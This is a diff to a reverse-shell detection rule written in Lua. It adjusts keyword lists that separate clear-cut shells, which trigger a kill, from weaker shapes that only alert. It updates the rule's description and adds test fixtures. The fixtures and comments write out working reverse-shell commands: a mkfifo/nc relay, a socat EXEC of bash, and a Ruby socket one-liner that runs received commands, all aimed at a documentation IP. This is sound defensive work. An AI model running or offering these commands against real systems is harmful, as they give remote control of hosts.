@@ -59,12 +59,11 @@ end
 -- A connection made from script code ...
 local CONNECT = { "connect(", "fsockopen(", "tcpsocket.open", "tcpsocket.new", "/inet/tcp/",
   "socket.create_connection", "new-object system.net.sockets.tcpclient" }
--- ... and the code hands it a shell: strong signs ...
-local SHELL_HANDOFF = { "dup2", "pty.spawn", "/bin/sh", "/bin/bash", "sh -i", "bash -i",
-  "open(stdin", "cmd.exe" }
--- ... or weaker ones (the code runs something it read from the socket).
+-- ... and the code hands the socket to an interactive shell (clear-cut) ...
+local SHELL_HANDOFF = { "dup2", "pty.spawn", "sh -i", "bash -i", "open(stdin" }
+-- ... or runs a program, perhaps what it read from the socket (alert only).
 local RUNS_CODE = { "subprocess", "exec(", "system(", "popen", "proc_open", "passthru",
-  "shell_exec", "child_process", "spawn(", "getline", "exec sprintf", "%x(" }
+  "shell_exec", "child_process", "spawn(", "getline", "exec sprintf", "%x(", "/bin/sh", "/bin/bash" }
 
 local NET_TOOLS = { "nc ", "ncat ", "netcat ", "telnet ", "s_client", "socat " }
 local SHELLISH = { "sh -i", "bash -i", "/bin/sh", "/bin/bash", "|sh", "| sh", "|bash", "| bash" }
@@ -129,9 +128,11 @@ relaying a shell through nc/telnet/openssl (`mkfifo /tmp/f; sh -i </tmp/f |
 nc H P >/tmp/f`), socat with an EXEC/SYSTEM address, and script one-liners
 that connect a socket and hand it to a shell (Python socket + dup2/pty.spawn,
 Perl Socket + exec, PHP fsockopen + exec, Ruby TCPSocket, awk /inet/tcp).
-Clear-cut shells (a shell on the socket) request `kill`; weaker shapes
-(socat running a non-shell program, script code connecting and running
-something) only alert.
+Clear-cut shells request `kill`: /dev/tcp duplication, netcat -e, fifo
+relays, socat EXEC of a shell, script code that connects and hands the
+socket to an interactive shell (dup2, pty.spawn, `sh -i`, open(STDIN)).
+Weaker shapes only alert: socat running another program, script code that
+connects and runs something (subprocess, exec, system, popen, spawn).
 The same classifier is the EQL function lua.is_reverse_shell(command_line).
 False positives: port probes (`echo > /dev/tcp/db/5432`) do not duplicate a
 descriptor and do not match; socat port forwards have no EXEC address;
@@ -192,6 +193,10 @@ process where event.type == "start" and
     { name = "socat EXEC of a shell alerts (kill)", expect = 1, events = {
       proc("socat", "/usr/bin/socat", { "socat", "TCP:203.0.113.7:4444",
         "EXEC:/bin/bash,pty,stderr,setsid,sigint,sane" }, "bash"),
+    } },
+    { name = "ruby socket running what it reads alerts (no kill)", expect = 1, events = {
+      proc("ruby", "/usr/bin/ruby3.1", { "ruby", "-rsocket", "-e",
+        "c=TCPSocket.new(\"203.0.113.7\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read};end" }, "bash"),
     } },
     { name = "port probe through /dev/tcp does not alert", expect = 0, events = {
       proc("bash", "/usr/bin/bash", { "bash", "-c",
